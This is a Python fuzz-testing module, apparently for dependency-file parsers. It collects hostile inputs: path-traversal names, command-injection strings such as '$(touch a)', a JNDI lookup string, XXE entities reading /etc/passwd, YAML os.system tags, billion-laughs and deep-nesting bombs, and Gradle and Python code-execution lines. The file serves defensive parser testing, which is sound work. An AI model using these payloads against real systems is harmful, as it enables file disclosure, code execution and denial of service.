"""Documents that were written to break a reader: for any format, and what each syntax has of its own.

`ANY` goes to every reader. `BOMBS` go to every reader as well, in a process with limits: each is small in what it says
and large in what it asks for. Large ones are made when they are needed.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping

from hypothesis import strategies as st

__all__ = ["ANY", "BOMBS", "NAMES", "SCALARS", "damaged", "of_the_seed", "replaced"]

DEEP = 100_000
SECRET = "the content of a file outside of the tree"
"""What stands in the files that hostile documents point to; no report may hold it."""

NAMES = [
    "../../../etc/passwd",
    "..",
    "/etc/passwd",
    "//host/share",
    "C:\\Windows\\win.ini",
    "c:/windows/win.ini",
    "file:///etc/passwd",
    "a/../../b",
    "a//b",
    "a\nb",
    "a\r\nb: c",
    "a\0b",
    "a\u202egnp.exe",
    "\u2066a\u2069",
    "a\x1b[31mred\x1b[0m",
    "a\x1b]8;;https://x.example\x07b\x1b]8;;\x07",
    "a\x9b31mred",
    "\ufeffa",
    "a\u200bb",
    "<script>alert(1)</script>",
    "::error::a",
    "%2e%2e%2fa",
    "$(touch a)",
    "`touch a`",
    "${jndi:ldap://x.example/a}",
    "{{ 7 * 7 }}",
    "=1+1",
    "-rf",
    "--index-url=https://x.example",
    "a@b@c",
    "pkg:pypi/a",
    "x" * 5000,
    "",
    " ",
]
"""What stands in place of a name, a path or an address."""

_JSON = {
    "JSON: null": b"null",
    "JSON: a number": b"12",
    "JSON: an array": b"[]",
    "JSON: an empty object": b"{}",
    "JSON: a key that stands twice": b'{"a": 1, "a": 2}',
    "JSON: a number that is none": b'{"version": NaN, "lockfileVersion": Infinity}',
    "JSON: a number of 5,000 digits": b'{"lockfileVersion": ' + b"9" * 5000 + b"}",
    "JSON: a number without end": b'{"version": 1e999999}',
    "JSON: half of a surrogate pair": rb'{"a\ud800": "\udfff", "packages": {"\ud83d": {"version": "\ud83d"}}}',
    "JSON: a comment": b'{"a": 1 /* b */, // c\n}',
    "JSON: two values": b"{}{}",
    "JSON: no end": b'{"a": ["b"',
    "JSON: a string without end": b'{"a": "' + b"\\" * 9,
    "JSON: a member of object": b'{"__proto__": {"a": 1}, "constructor": [], "__class__": 5}',
}
_TOML = {
    "TOML: a key that stands twice": b"a = 1\na = 2\n",
    "TOML: a table that stands twice": b"[a]\n[a]\n",
    "TOML: a table that is an array": b"[[a]]\n[a]\n",
    "TOML: an integer beyond 64 bits": b"version = 9223372036854775808\nrevision = -170141183460469231731687\n",
    "TOML: an integer of 5,000 digits": b"version = " + b"9" * 5000 + b"\n",
    "TOML: a number that is none": b"version = nan\nlock-version = inf\n",
    "TOML: a day that no calendar has": b"version = 2026-02-30\n",
    "TOML: half of a surrogate pair": rb'version = "\ud800"' + b"\n",
    "TOML: no package is a table": b'version = 1\npackage = [1, "a", [], {}]\n',
    "TOML: 10,000 parts of a key": b"a" + b".a" * 10_000 + b" = 1\n",
    "TOML: 10,000 parts of a header": b"[a" + b".a" * 10_000 + b"]\n",
    "TOML: an array in an array": b"a = " + b"[" * DEEP + b"]" * DEEP + b"\n",
    "TOML: a table in a table": b"a = " + b"{a = " * DEEP + b"1" + b"}" * DEEP + b"\n",
}
_YAML = {
    "YAML: a tag of Python": b"a: !!python/object/apply:os.system ['touch a']\n",
    "YAML: a tag at the top": b"!!python/object:os.stat {}\n",
    "YAML: an alias of itself": b"a: &a [*a]\n",
    "YAML: a merge key": b"a: &a {b: c}\nd:\n  <<: *a\n",
    "YAML: a merge key without anchor": b"packages:\n  <<: {a: b}\n",
    "YAML: a billion laughs": b"a0: &a0 [x]\n"
    + b"".join(b"a%d: &a%d [%s]\n" % (n, n, b",".join([b"*a%d" % (n - 1)] * 10)) for n in range(1, 30)),
    "YAML: several documents": b"---\na: 1\n---\nb: 2\n...\n--- c\n",
    "YAML: a tab": b"a:\n\tb: 1\n",
    "YAML: a directive": b"%YAML 9.9\n%TAG ! tag:x.example,2026:\n---\na: 1\n",
    "YAML: a key that is a mapping": b"? {a: b}\n: c\n",
    "YAML: half of a surrogate pair": rb'"lockfileVersion": "\ud800"' + b"\n" + rb'packages: {"a@1\ud800": {}}' + b"\n",
    "YAML: a key that stands twice": b"a: 1\na: 2\n",
    "YAML: other keys that are null and true": b"null: 1\n~: 2\ntrue: 3\n",
}
_XML = {
    "XML: an external entity": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><project><artifactId>&b;</artifactId></project>',
    "XML: an external document type": b'<!DOCTYPE project SYSTEM "https://x.example/a.dtd"><project/>',
    "XML: a parameter entity": b'<!DOCTYPE a [<!ENTITY % b SYSTEM "https://x.example/a.dtd"> %b;]><project/>',
    "XML: a billion laughs": b'<!DOCTYPE a [<!ENTITY a0 "x">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 30))
    + b"]><project>&a29;</project>",
    "XML: one long entity": b'<!DOCTYPE a [<!ENTITY a "'
    + b"x" * 100_000
    + b'">]><project>'
    + b"&a;" * 10_000
    + b"</project>",
    "XML: an entity that nobody declares": b"<project>&a;</project>",
    "XML: a processing instruction": b'<?xml-stylesheet href="file:///etc/passwd"?>'
    b'<?php system("touch a"); ?><project/>',
    "XML: an inclusion": b'<project xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></project>',
    "XML: another encoding": b'<?xml version="1.0" encoding="utf-7"?><project/>',
    "XML: no encoding": b'<?xml version="1.0" encoding="\xff"?><project/>',
    "XML: an encoding of Python": b'<?xml version="1.0" encoding="idna"?><project/>',
    "XML: characters that are none": b"<project>&#0;&#x1b;&#xd800;</project>",
    "XML: two tops": b"<project/><project/>",
    "XML: elements in elements": b"<project>" + b"<a>" * DEEP,
    "XML: a prefix that nobody declares": b"<a:project/>",
    "XML: an attribute that stands twice": b'<project a="1" a="2"/>',
}
_CODE = {
    "Python: a call": b"__import__('os').system('touch a')\nfrom setuptools import setup\n"
    b"setup(install_requires=[open('/etc/passwd').read()])\n",
    "Python: half of a surrogate pair": b"from setuptools import setup\n"
    b"setup(name='a\\ud800', install_requires=['b\\udfff', 'c==\\ud800'])\n",
    "Python: a number of 5,000 digits": b"from setuptools import setup\nsetup(version=" + b"9" * 5000 + b")\n",
    "Python: brackets": b"setup(a=" + b"(" * DEEP + b")" * DEEP + b")\n",
    "Python: signs": b"setup(a=" + b"-" * DEEP + b"1)\n",
    "Python: sums": b"setup(install_requires=[" + b"'a'+" * 50_000 + b"'a'])\n",
    "requirements: itself": b"-r requirements.txt\n-c requirements.txt\n--index-url file:///etc/passwd\n-e ../../etc\n",
    "requirements: a variable": b"${HOME}==1\na @ file:///etc/passwd\nb @ ../../etc\n",
    "INI: interpolation": b"[metadata]\nname = %(name)s\n[options]\ninstall_requires = file: /etc/passwd\n",
    "INI: a default": b"[DEFAULT]\na = 1\n[a\n]b=\n= c\n",
    "Gradle: a call": b"dependencies { implementation \"${'touch a'.execute()}\" }\n",
    "Gradle: brackets": b"dependencies { implementation(" + b"(" * DEEP + b")" * DEEP + b") }\n",
    "Ruby: a call": b"GEM\n  remote: `touch a`\n  specs:\n    a (#{system('touch a')})\n",
    "Elixir: brackets": b"%{" + b'"a": {' * DEEP + b"}" * DEEP + b"}\n",
}

ANY: Mapping[str, bytes] = {
    "nothing": b"",
    "blanks": b" \t\r\n \n",
    "a byte order mark": b"\xef\xbb\xbf",
    "a NUL": b"\0",
    "bytes that are no text": bytes(range(256)),
    "half of a letter": b"a\xc3",
    "a surrogate in UTF-8": b'{"a": "\xed\xa0\x80"}',
    "UTF-16 with a mark": "\ufeff{}".encode("utf-16-le"),
    "UTF-32 with a mark": "\ufeff{}".encode("utf-32-be"),
    "carriage returns": b"a = 1\rb = 2\r",
    "an archive": b"PK\3\4" + bytes(100),
    "a packed file": b"\x1f\x8b\x08" + bytes(100),
    "a merge conflict": b"<<<<<<< HEAD\na = 1\n=======\na = 2\n>>>>>>> other\n",
    "a shell script": b"#!/bin/sh\ntouch a\n",
    **_JSON,
    **_TOML,
    **_YAML,
    **_XML,
    **_CODE,
}
"""Documents for every reader, by what they are."""

BOMBS: Mapping[str, Callable[[int], bytes]] = {
    "megabytes of [": lambda many: b"[" * 5 * many,
    "megabytes of {": lambda many: b"{" * 5 * many,
    "megabytes of objects": lambda many: b'{"a":' * many,
    "megabytes of elements": lambda many: b"<a>" * (many // 5),
    "very many (": lambda many: b"(" * many,
    "very many spaces": lambda many: b"a" + b" " * many + b"a",
    "very many line ends": lambda many: b"a" + b"\n" * many + b"a",
    "very many carriage returns": lambda many: b"a" + b"\r" * many + b"a",
    "very many quotes": lambda many: b'"' * many,
    "very many backslashes": lambda many: b'"' + b"\\" * many,
    "very many #": lambda many: b"#" * many,
    "very many dashes": lambda many: b"- " * (many // 2),
    "a line of very many letters": lambda many: b"a" * many,
    "a line of very many dots": lambda many: b"a" + b"." * many + b"\n",
    "very many keys": lambda many: b"a:\n" * (many // 5),
    "deeper by every line": lambda many: b"".join(b" " * n + b"a:\n" for n in range(many // 200)),
    "a name of very many parts": lambda many: b"a." * (many // 5) + b"a = 1\n",
    "numbers of 4,000 digits": lambda many: b"[" + (b"9" * 4000 + b",") * (many // 10_000) + b"0]",
}
"""Documents that ask for much time or memory, for every reader; they are made of so many signs."""


def of_the_seed(seed: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield what tools and people make of a sound document, and what an attacker makes of it first."""
    text = seed.decode("utf-8-sig", "replace")
    yield "with a byte order mark", b"\xef\xbb\xbf" + seed
    yield "with two byte order marks", b"\xef\xbb\xbf" * 2 + seed
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le"):
        yield f"in {encoding}", text.encode(encoding)
        yield f"in {encoding} with a mark", f"\ufeff{text}".encode(encoding)
    yield "with CRLF", text.replace("\r\n", "\n").replace("\n", "\r\n").encode()
    yield "with CR alone", text.replace("\r\n", "\n").replace("\n", "\r").encode()
    yield "in one line", text.replace("\n", " ").encode()
    yield "with other line ends", text.replace("\n", "\u2028").encode()
    yield "with a NUL in front", b"\0" + seed
    yield "with a NUL behind", seed + b"\0"
    yield "with a NUL in the middle", seed[: len(seed) // 2] + b"\0" + seed[len(seed) // 2 :]
    yield "without its end", seed[: len(seed) // 2]
    yield "without its beginning", seed[len(seed) // 2 :]
    yield "twice", seed + seed
    yield "backwards", text[::-1].encode()
    yield "each line twice", "".join(line * 2 for line in text.splitlines(keepends=True)).encode()
    yield "its lines sorted", "".join(sorted(text.splitlines(keepends=True))).encode()
    yield "in tabs", text.replace("  ", "\t").encode()
    yield "in capitals", text.upper().encode()


# --- strategies ---------------------------------------------------------------------------------------------------

SCALARS = [
    *(b"null", b"true", b"{}", b"[]", b'""', b"''", b"-1", b"1.5", b"1e999", b"NaN", b"nan", b"inf", b"2026-02-30"),
    b"9" * 30,
    b"9" * 5000,
    b"[" * 200 + b"]" * 200,
    b'{"a": ' * 200 + b"1" + b"}" * 200,
    b'"' + b"x" * 5000 + b'"',
    rb'"\ud800"',
    b"!!python/name:os.system",
    b"*a",
    b"&a b",
    b"<<: *a",
    b"<!DOCTYPE a>",
    b"&a;",
    *(json.dumps(name, ensure_ascii=False).encode() for name in NAMES),
    *(name.encode() for name in NAMES),
]
"""What takes the place of a value: each type of each syntax, and what stands for names in hostile documents."""

_TOKEN = rb""""(?:[^"\\\n]|\\.)*"|'[^'\n]*'|<[^<>\n]*>|[\w.@/+~:-]+|[^\s\w]"""


def replaced(seed: bytes) -> st.SearchStrategy[bytes]:
    """Draw the document with some of its tokens replaced by a hostile value, swapped, taken out or put twice."""
    import re

    tokens = re.split(rb"(" + _TOKEN + rb")", seed)
    places = range(1, len(tokens), 2)
    if not places:
        return st.just(seed)
    at = st.sampled_from(places)
    value = st.sampled_from(SCALARS)
    changes = st.lists(st.tuples(at, st.one_of(value, at)), min_size=1, max_size=4)

    def changed(wanted: list[tuple[int, bytes | int]]) -> bytes:
        parts = [*tokens]
        for place, new in wanted:
            if isinstance(new, bytes):
                parts[place] = new
            else:
                parts[place], parts[new] = parts[new], parts[place]
        return b"".join(parts)

    return changes.map(changed)


def damaged(seed: bytes) -> st.SearchStrategy[bytes]:
    """Draw the document with bytes flipped, cut out, put twice, or its lines in another order."""
    place = st.integers(0, max(0, len(seed) - 1))

    def flipped(marks: list[tuple[int, int]]) -> bytes:
        data = bytearray(seed or b"\0")
        for at, bit in marks:
            data[at] ^= 1 << bit
        return bytes(data)

    def cut(at: int, length: int, times: int) -> bytes:
        return seed[:at] + seed[at : at + length] * times + seed[at + length :]

    lines = seed.splitlines(keepends=True)
    return st.one_of(
        st.lists(st.tuples(place, st.integers(0, 7)), min_size=1, max_size=4).map(flipped),
        st.builds(cut, place, st.integers(1, 200), st.sampled_from([0, 2, 50])),
        st.permutations(lines).map(b"".join) if len(lines) < 200 else st.just(seed),
        st.lists(st.sampled_from(lines or [b""]), max_size=30).map(b"".join),
    )
